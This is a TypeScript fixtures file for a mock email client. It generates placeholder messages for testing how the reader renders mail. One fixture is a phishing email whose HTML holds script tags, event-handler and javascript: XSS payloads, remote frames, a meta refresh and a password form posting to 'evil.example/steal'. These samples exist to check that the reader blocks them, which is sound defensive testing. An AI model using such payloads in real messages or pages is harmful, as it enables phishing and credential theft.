// DEV ONLY: message fixtures for the mock. Generated messages are a pure
// function of their number (so 100,000 cost nothing to describe); a few
// hand-written ones cover the reader's cases: HTML with inline and remote
// images, a hostile message, plain text with links, attachments, a body not
// downloaded yet, and one that could not be parsed.
//
// Remote URLs point at `${location.origin}/remote/...`: the screenshot script's
// server counts those requests, so it can prove nothing was fetched while blocked.

import type { Address, AttachmentInfo, MessageDetail } from '../../shared/mail';

export interface Fixture {
  subject: string;
  from: Address;
  to: Address[];
  cc?: Address[];
  snippet: string;
  seen: boolean;
  flagged?: boolean;
  body: MessageDetail['body'];
  text: string;
  html: string | null;
  attachments?: AttachmentInfo[];
  inlineImages?: Record<string, string>;
  problems?: string[];
  /** Minutes before "now". */
  ageMinutes: number;
}

const FIRST = ['Ada', 'Charles', 'Mary', 'Michael', 'Grace', 'Alan', 'Katherine', 'Dorothy', 'Edsger', 'Barbara', 'Donald', 'Margaret'];
const LAST = [
  'Lovelace',
  'Babbage',
  'Somerville',
  'Faraday',
  'Hopper',
  'Turing',
  'Johnson',
  'Vaughan',
  'Dijkstra',
  'Liskov',
  'Knuth',
  'Hamilton',
];
const TOPICS = [
  'Quarterly figures',
  'Lunch on Friday?',
  'The difference engine, part',
  'Re: Bernoulli numbers',
  'Invitation: design review',
  'Your order has shipped',
  'Minutes of the meeting',
  'Fwd: punched cards supplier',
  'Travel plans for the conference',
  'Question about the loom',
  'Weekly report',
  'Draft chapter for review',
];
const SNIPPETS = [
  'I went through the tables again and I think the error is in the third column, not the carry mechanism.',
  'Could we move the meeting to Thursday? The workshop is closed on Wednesday afternoon.',
  'Attached are the drawings we discussed. Let me know what you think before we send them to the engraver.',
  'Thanks for the quick reply! That clears it up. One more thing about the notation in note G…',
  'Reminder: the review starts at 10:00 in the small library. Coffee will be provided.',
  'Your parcel is on its way and should arrive within two to three working days.',
];

/** Deterministic pseudo-random number in [0, 1) for message n and salt. */
function rand(n: number, salt: number): number {
  let x = (n * 374761393 + salt * 668265263) | 0;
  x = Math.imul(x ^ (x >>> 13), 1274126177);
  return ((x ^ (x >>> 16)) >>> 0) / 4294967296;
}

function pick<T>(list: readonly T[], n: number, salt: number): T {
  return list[Math.floor(rand(n, salt) * list.length)] as T;
}

export interface Generated {
  subject: string;
  from: Address;
  snippet: string;
  seen: boolean;
  flagged: boolean;
  hasAttachments: boolean;
  html: boolean;
}

/** Message number n of a generated folder (n = 0 is the newest). */
export function generated(n: number, unreadNewest: number): Generated {
  const first = pick(FIRST, n, 1);
  const last = pick(LAST, n, 2);
  const topic = pick(TOPICS, n, 3);
  return {
    subject: topic.endsWith('part') ? `${topic} ${(n % 40) + 1}` : topic,
    from: { name: rand(n, 4) < 0.15 ? '' : `${first} ${last}`, address: `${first}.${last}@example.com`.toLowerCase() },
    snippet: pick(SNIPPETS, n, 5),
    seen: n >= unreadNewest && rand(n, 6) > 0.005,
    flagged: rand(n, 7) < 0.03,
    hasAttachments: rand(n, 8) < 0.08,
    html: n % 5 === 2,
  };
}

export function generatedBody(g: Generated): { text: string; html: string | null } {
  const text = `Hello,\n\n${g.snippet}\n\nThe figures are in the shared folder as usual: https://files.example.com/figures\n\nBest,\n${g.from.name || g.from.address}`;
  if (!g.html) return { text, html: null };
  const html = `<div style="font-family: Georgia, serif; font-size: 16px; color: #222">
<p>Hello,</p><p>${g.snippet}</p>
<p style="background:#f3f0e8;padding:10px;border-radius:6px">The figures are in the <a href="https://files.example.com/figures">shared folder</a> as usual.</p>
<p>Best,<br><b>${g.from.name || g.from.address}</b></p></div>`;
  return { text, html };
}

// A small logo as a data: URL, as the core sends inline (cid:) images.
const LOGO_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40" rx="8" fill="#0b63ce"/><text x="60" y="26" font-family="sans-serif" font-size="16" fill="#fff" text-anchor="middle">Engine Weekly</text></svg>`;
const LOGO = `data:image/svg+xml;base64,${btoa(LOGO_SVG)}`;

const me: Address = { name: 'Ada Lovelace', address: 'ada@example.com' };

export function fixtures(origin: string): Fixture[] {
  return [
    {
      subject: 'Your weekly engine digest',
      from: { name: 'Engine Weekly', address: 'news@engine-weekly.example' },
      to: [me],
      snippet: 'This week: the mill, the store, and why punched cards are here to stay.',
      seen: false,
      body: 'ready',
      ageMinutes: 12,
      text: 'This week: the mill, the store, and why punched cards are here to stay.',
      inlineImages: { 'logo@engine-weekly': LOGO },
      // The logo is shown in the body, so the reader does not list it; the PDF is a real attachment.
      attachments: [
        { index: 0, filename: 'logo.svg', contentType: 'image/svg+xml', size: 312, contentId: 'logo@engine-weekly', inline: true },
        { index: 1, filename: 'engine-weekly-42.pdf', contentType: 'application/pdf', size: 120_400, contentId: null, inline: false },
      ],
      html: `<!doctype html><html><head><style>
  .wrap { max-width: 560px; margin: 0 auto; font-family: Helvetica, Arial, sans-serif; color: #222; }
  h1 { font-size: 24px; margin: 12px 0; }
  .card { border: 1px solid #e3e3e3; border-radius: 8px; padding: 14px; margin: 12px 0; }
  .cta { display: inline-block; background: #0b63ce; color: #fff; padding: 8px 14px; border-radius: 6px; text-decoration: none; }
</style></head><body>
<div class="wrap">
  <img src="cid:logo@engine-weekly" alt="Engine Weekly" width="120" height="40">
  <h1>The mill, the store, and punched cards</h1>
  <img src="${origin}/remote/banner.svg" alt="Banner: a drawing of the engine" width="560" height="140">
  <div class="card"><b>The mill</b> does the arithmetic; <b>the store</b> holds the numbers. Together they make a machine that can follow any rule you can write down.</div>
  <div class="card">Read the full story on our site.<br><br><a class="cta" href="https://engine-weekly.example/issue/42">Read more</a></div>
  <p style="color:#888;font-size:12px">You receive this because you subscribed. <a href="https://engine-weekly.example/unsubscribe">Unsubscribe</a></p>
  <img src="${origin}/remote/pixel.gif?open=digest" width="1" height="1" alt="">
</div></body></html>`,
    },
    {
      subject: 'Action required: verify your account',
      from: { name: 'Security Team', address: 'security@paypa1.example' },
      to: [me],
      snippet: 'We noticed unusual activity. Please verify your account within 24 hours.',
      seen: false,
      body: 'ready',
      ageMinutes: 47,
      text: 'We noticed unusual activity.',
      // Everything a hostile sender might try. None of it may run, load or navigate.
      html: `<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css"); .warn { color: #b00020; }</style>
<script>window.top.__pwned = 'script'; parent.document.title = 'pwned';</script>
</head><body onload="window.top.__pwned='onload'">
<h2 class="warn">Unusual sign-in activity</h2>
<p>We noticed unusual activity on your account. Please verify your details below within 24 hours.</p>
<img src="x" onerror="window.top.__pwned='onerror'" alt="">
<img src="${origin}/remote/hostile-pixel.gif" alt="tracker">
<p><a href="javascript:window.top.__pwned='javascript-link'">Verify now (javascript: link)</a></p>
<p><a href="https://example.com/real-link" target="_top">An ordinary https link</a></p>
<form action="https://evil.example/steal" method="post">
  <label>Password <input type="password" name="password"></label>
  <button type="submit">Log in</button>
</form>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object.swf"></object>
<svg width="20" height="20" onload="window.top.__pwned='svg'"><circle r="8" cx="10" cy="10" fill="red"/></svg>
<div style="background-image:url('${origin}/remote/hostile-bg.gif');padding:8px">A box with a remote background</div>
<p>— The Security Team</p>
</body></html>`,
    },
    {
      subject: 'Re: Notes on the engine',
      from: { name: 'Charles Babbage', address: 'charles@difference.example' },
      to: [me],
      cc: [{ name: 'Mary Somerville', address: 'mary@example.org' }],
      snippet: 'Your notes are longer than the paper they annotate, and better.',
      seen: false,
      flagged: true,
      body: 'ready',
      ageMinutes: 95,
      html: null,
      text: `Dear Ada,

Your notes are longer than the paper they annotate, and better. A few links
I promised:

  - the translation: https://en.wikipedia.org/wiki/Analytical_Engine
  - the drawings (scanned): www.example.org/drawings?set=2&page=1.
  - Mary asked to be copied; write to her at mary@example.org, or to me.

On Tuesday, Ada Lovelace <ada@example.com> wrote:
> I have added a note on how the engine could compute Bernoulli numbers.
> It is rather long.

Yours,
Charles`,
    },
    {
      subject: 'Photos from the weekend',
      from: { name: 'Mary Somerville', address: 'mary@example.org' },
      to: [me],
      snippet: 'Here are the photos from the observatory, and the star chart you asked for.',
      seen: true,
      body: 'ready',
      ageMinutes: 60 * 26,
      html: null,
      text: 'Here are the photos from the observatory, and the star chart you asked for.\n\nMary',
      attachments: [
        { index: 0, filename: 'observatory.jpg', contentType: 'image/jpeg', size: 2_481_152, contentId: null, inline: false },
        { index: 1, filename: 'star-chart.pdf', contentType: 'application/pdf', size: 734_003, contentId: null, inline: false },
        { index: 2, filename: null, contentType: 'text/calendar', size: 912, contentId: null, inline: false },
      ],
    },
    {
      subject: 'Invoice 2025-0042',
      from: { name: 'Brass & Gears Ltd', address: 'billing@brass-gears.example' },
      to: [me],
      snippet: 'Invoice for 240 brass gears, 12 columns and one very long crank.',
      seen: true,
      body: 'ready',
      ageMinutes: 60 * 50,
      text: 'Invoice for 240 brass gears.',
      attachments: [
        { index: 0, filename: 'invoice-2025-0042.pdf', contentType: 'application/pdf', size: 48_200, contentId: null, inline: false },
      ],
      html: `<table width="600" cellpadding="8" style="border-collapse:collapse;font-family:Arial;font-size:14px">
<tr style="background:#333;color:#fff"><th align="left">Item</th><th align="right">Qty</th><th align="right">Price</th></tr>
<tr><td>Brass gear, 48 teeth</td><td align="right">240</td><td align="right">£ 96.00</td></tr>
<tr style="background:#f4f4f4"><td>Column, figure wheels</td><td align="right">12</td><td align="right">£ 180.00</td></tr>
<tr><td>Crank, very long</td><td align="right">1</td><td align="right">£ 12.50</td></tr>
<tr style="border-top:2px solid #333"><td><b>Total</b></td><td></td><td align="right"><b>£ 288.50</b></td></tr>
</table><p style="font-family:Arial">Payable within 30 days. Questions? <a href="mailto:billing@brass-gears.example">billing@brass-gears.example</a></p>`,
    },
    {
      subject: 'Minutes of the Royal Society meeting',
      from: { name: 'Royal Society', address: 'secretary@royalsociety.example' },
      to: [me],
      snippet: 'The minutes of the last meeting are attached.',
      seen: true,
      body: 'missing',
      ageMinutes: 60 * 74,
      text: '',
      html: null,
    },
    {
      subject: '=?x-unknown?Q?Broken=20message?=',
      from: { name: '', address: 'mailer-daemon@oldisp.example' },
      to: [me],
      snippet: '',
      seen: true,
      body: 'unparsable',
      ageMinutes: 60 * 100,
      text: '',
      html: null,
      problems: ['unknown charset x-unknown', 'bad base64 in part 2'],
    },
  ];
}

/** A plausible RFC 5322 source for the "View source" dialog and unparsable bodies. */
export function sourceOf(m: {
  subject: string;
  from: Address | null;
  to: Address[];
  date: string;
  text: string;
  html: string | null;
}): string {
  const addr = (a: Address) => (a.name ? `"${a.name}" <${a.address}>` : `<${a.address}>`);
  const headers = [
    'Return-Path: <bounce@example.com>',
    `From: ${m.from ? addr(m.from) : '(none)'}`,
    `To: ${m.to.map(addr).join(', ')}`,
    `Subject: ${m.subject}`,
    `Date: ${new Date(m.date).toUTCString()}`,
    'Message-ID: <mock.1234@example.com>',
    'MIME-Version: 1.0',
  ];
  if (m.html) {
    return `${headers.join('\r\n')}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${m.html}`;
  }
  return `${headers.join('\r\n')}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n${m.text || '--b1\r\nContent-Type: text/plain; charset=x-unknown\r\nContent-Transfer-Encoding: base64\r\n\r\n!!not base64!!\r\n--b1--'}`;
}
